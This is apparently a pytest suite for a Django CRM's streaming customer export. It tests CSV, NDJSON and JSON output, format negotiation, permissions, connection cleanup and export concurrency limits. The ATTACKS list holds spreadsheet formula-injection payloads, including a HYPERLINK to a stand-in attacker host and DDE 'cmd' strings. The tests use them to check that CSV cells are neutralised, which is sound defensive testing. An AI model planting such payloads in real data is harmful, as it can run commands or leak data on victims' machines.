"""The streaming export: the list's rows, safe for spreadsheets, complete or visibly cut."""

from __future__ import annotations

import csv
import io
import json
import threading

import pytest
from django.db import connection
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.customers.export import FORMULA_STARTS
from core.customers.services import customer_create
from core.tests.clients import api_client

pytestmark = pytest.mark.django_db


URL = "/api/users/"
EXPORT = f"{URL}export/"
TEXT_COLUMNS = {
    "first_name",
    "last_name",
    "gender",
    "customer_id",
    "phone_number",
    "address_street",
    "address_street_number",
    "address_city_code",
    "address_city",
    "address_country",
}


def list_all(client: Client, query: str) -> list[dict]:
    rows, url = [], f"{URL}?{query}&page_size=500"
    while url:
        body = client.get(url).json()
        rows += body["results"]
        url = body["next"]
    return rows


def flatten(row: dict) -> dict[str, str]:
    flat = {k: v for k, v in row.items() if k not in ("address", "relationship")}
    flat |= {f"address_{k}": v for k, v in row["address"].items()}
    flat |= {f"relationship_{k}": v for k, v in (row["relationship"] or {}).items()}
    return {k: "" if v is None else str(v) for k, v in flat.items()}


def neutralised(flat: dict[str, str]) -> dict[str, str]:
    """What the CSV shows of a flat row: OWASP's leading ' on text that starts a formula."""
    return {
        k: "'" + v if k in TEXT_COLUMNS and v.startswith(FORMULA_STARTS) else v
        for k, v in flat.items()
    }


def download(client: Client, query: str = "", **headers) -> tuple[bytes, str]:
    response = client.get(f"{EXPORT}?{query}", **headers)
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content), response["Content-Type"]


def csv_rows(body: bytes) -> list[dict[str, str]]:
    """The data rows of a CSV export, as the csv module reads them."""
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def ndjson_rows(body: bytes) -> tuple[list[dict], dict]:
    *rows, trailer = body.decode().split("\n")
    return [json.loads(row) for row in rows], json.loads(trailer)


@pytest.mark.parametrize(
    "query", ["", "city=vienna", "ordering=-relationship__points", "search=smith"]
)
def test_csv_export_is_the_header_and_exactly_the_lists_rows(people, query):
    client = api_client()
    response = client.get(f"{EXPORT}?{query}")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="customers-' in response["Content-Disposition"]
    assert response["Cache-Control"].count("no-store") == 1
    body = b"".join(response.streaming_content)
    exported = csv_rows(body)
    listed = list_all(client, query)
    assert exported == [neutralised(flatten(row)) for row in listed]
    assert len(list(csv.reader(io.StringIO(body.decode(), newline="")))) == len(listed) + 1
    assert all(row["address_street"] == 'Main "Street", corner\nBlock B' for row in exported)


def test_ndjson_export_is_the_lists_rows_exactly_nested(people):
    client = api_client()
    body, content_type = download(client, "format=ndjson&ordering=last_name")
    assert content_type == "application/x-ndjson"
    rows, trailer = ndjson_rows(body)
    listed = list_all(client, "ordering=last_name")
    assert rows == listed, "nested like the API's rows, values exact (no ' prefix)"
    assert trailer == {"end_of_export": {"rows": len(listed)}}


def test_json_export_is_one_document_with_the_count(people):
    client = api_client()
    body, content_type = download(client, "format=json&city=boston")
    assert content_type == "application/json"
    assert json.loads(body) == {"results": list_all(client, "city=boston"), "count": 1}
    empty, _ = download(client, "format=json&last_name=nobody")
    assert json.loads(empty) == {"results": [], "count": 0}


def test_a_customer_without_a_record_exports_a_null_relationship(people):
    from core.models import CustomerRelationship

    CustomerRelationship.objects.filter(appuser__last_name="Parker").delete()
    rows, _ = ndjson_rows(download(api_client(), "format=ndjson&last_name=parker")[0])
    assert [row["relationship"] for row in rows] == [None]


ATTACKS = [
    '=HYPERLINK("//ev.il/"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def attackers(db) -> list[str]:
    for i, attack in enumerate(ATTACKS):
        customer_create(
            address={
                "street": attack,
                "street_number": "1",
                "city_code": "1",
                "city": attack,
                "country": "Nowhere",
            },
            first_name=attack,
            last_name=f"x;{attack}",
            gender="o",
            customer_id=f"EVIL-{i}",
            phone_number=attack[:32],
        )
    return ATTACKS


def test_csv_cells_that_would_run_as_formulas_are_neutralised(attackers):
    client = api_client()
    body, _ = download(client, "ordering=customer_id")
    rows = csv_rows(body)
    assert [row["first_name"] for row in rows] == ["'" + attack for attack in attackers]
    assert [row["address_city"] for row in rows] == ["'" + attack for attack in attackers]
    assert [row["address_street"] for row in rows] == ["'" + attack for attack in attackers]
    assert [row["phone_number"] for row in rows] == ["'" + a[:32] for a in attackers]
    # Not at the start: left as it is, but quoted, so that a spreadsheet that
    # splits on ';' (some locales do) keeps "x;=…" in one cell.
    assert [row["last_name"] for row in rows] == [f"x;{attack}" for attack in attackers]
    for attack in attackers:
        assert ('"x;' + attack.replace('"', '""') + '"').encode() in body
    ndjson, _ = ndjson_rows(download(client, "format=ndjson&ordering=customer_id")[0])
    assert [row["first_name"] for row in ndjson] == attackers, "NDJSON stays exact"


TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12
)


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(names=st.lists(TEXT, min_size=1, max_size=8))
def test_csv_neutralises_exactly_the_cells_owasp_names(names):
    """Any text: a leading '=', '+', '-', '@', tab or CR gets a "'", nothing else changes."""
    from core.models import AppUser

    AppUser.objects.filter(customer_id__startswith="HYP-").delete()
    for i, name in enumerate(names):
        customer_create(
            address={
                "street": "s",
                "street_number": "1",
                "city_code": "1",
                "city": "c",
                "country": "n",
            },
            first_name=name,
            last_name="L",
            gender="o",
            customer_id=f"HYP-{i:02d}",
            phone_number="1",
        )
    rows = csv_rows(download(api_client(), "ordering=customer_id")[0])
    exported = [row["first_name"] for row in rows if row["customer_id"].startswith("HYP-")]
    assert exported == ["'" + n if n[:1] in FORMULA_STARTS else n for n in names]


@pytest.mark.parametrize(
    ("headers", "content_type"),
    [
        ({}, "text/csv; charset=utf-8"),
        ({"HTTP_ACCEPT": "*/*"}, "text/csv; charset=utf-8"),
        ({"HTTP_ACCEPT": "text/html,application/xhtml+xml,*/*;q=0.8"}, "text/csv; charset=utf-8"),
        ({"HTTP_ACCEPT": "text/csv"}, "text/csv; charset=utf-8"),
        ({"HTTP_ACCEPT": "application/x-ndjson"}, "application/x-ndjson"),
        ({"HTTP_ACCEPT": "application/json"}, "application/json"),
    ],
)
def test_the_accept_header_chooses_the_format(people, headers, content_type):
    assert download(api_client(), "", **headers)[1] == content_type


def test_format_overrides_accept(people):
    client = api_client()
    _, content_type = download(client, "format=csv", HTTP_ACCEPT="application/json")
    assert content_type.startswith("text/csv")


def test_an_accept_header_naming_no_format_is_a_406_saying_which(people):
    response = api_client().get(EXPORT, HTTP_ACCEPT="application/xml")
    assert response.status_code == 406
    assert "application/x-ndjson" in response.json()["detail"]


@pytest.mark.parametrize("path", [EXPORT, URL, f"{URL}1/"])
def test_an_unknown_format_is_a_400_naming_the_parameter(people, path):
    response = api_client().get(f"{path}?format=xml")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "Unknown format 'xml'" in response.json()["format"][0]


def test_export_checks_permissions_and_parameters(people):
    assert Client().get(EXPORT).status_code == 401
    client = api_client()
    assert client.get(f"{EXPORT}?last_nme=x").status_code == 400
    assert client.get(f"{EXPORT}?page=2").status_code == 400


def test_export_works_with_the_debug_cursor(people):
    """With DEBUG on (the quickstart), Django wraps cursors; COPY must still stream."""
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection):
        rows = csv_rows(download(api_client())[0])
    assert len(rows) == len(people)


@pytest.mark.django_db(transaction=True)
def test_a_client_that_goes_away_leaves_the_connection_clean(people):
    """Closing mid-stream cancels the COPY and ends its transaction: the
    worker keeps its connection, and its next request works."""
    client = api_client()
    response = client.get(f"{EXPORT}?format=ndjson")
    first = next(iter(response.streaming_content))
    assert first.startswith(b'{"id"')
    session = connection.connection
    # Only an unusable connection may be closed at the end of the request,
    # not one older than CONN_MAX_AGE (60 s into a long test run).
    connection.close_at = None
    response.close()  # what the WSGI server does when the client has gone
    assert connection.connection is session
    assert not connection.in_atomic_block
    rows, trailer = ndjson_rows(download(client, "format=ndjson")[0])
    assert len(rows) == len(people)
    assert trailer == {"end_of_export": {"rows": len(people)}}
    assert client.get(f"{URL}?page_size=1").status_code == 200


@pytest.mark.django_db(transaction=True)
def test_a_user_may_run_only_so_many_exports_at_once(people, settings):
    """Slots are advisory locks on the primary: exports held open on other
    connections (threads here, worker processes in production) count."""
    settings.CRM_EXPORT_CONCURRENCY = 2
    token_client = api_client("exporter")
    headers = dict(token_client.defaults)
    opened, release, done = threading.Barrier(3), threading.Event(), []

    def hold_an_export() -> None:
        try:
            client = Client(**headers)
            response = client.get(f"{EXPORT}?format=ndjson")
            assert response.status_code == 200
            next(iter(response.streaming_content))
            opened.wait(timeout=30)
            release.wait(timeout=30)
            response.close()
            done.append(True)
        finally:
            connection.close()

    threads = [threading.Thread(target=hold_an_export) for _ in range(2)]
    for thread in threads:
        thread.start()
    opened.wait(timeout=30)
    try:
        refused = token_client.get(EXPORT)
        assert refused.status_code == 429
        assert refused["Retry-After"] == "10"
        assert "2 exports" in refused.json()["detail"]
        other_user = api_client("someone-else").get(EXPORT)
        assert other_user.status_code == 200, "the cap is per user"
        other_user.close()
    finally:
        release.set()
        for thread in threads:
            thread.join(timeout=30)
    assert done == [True, True]
    again = token_client.get(EXPORT)
    assert again.status_code == 200, "slots come back when exports end"
    again.close()
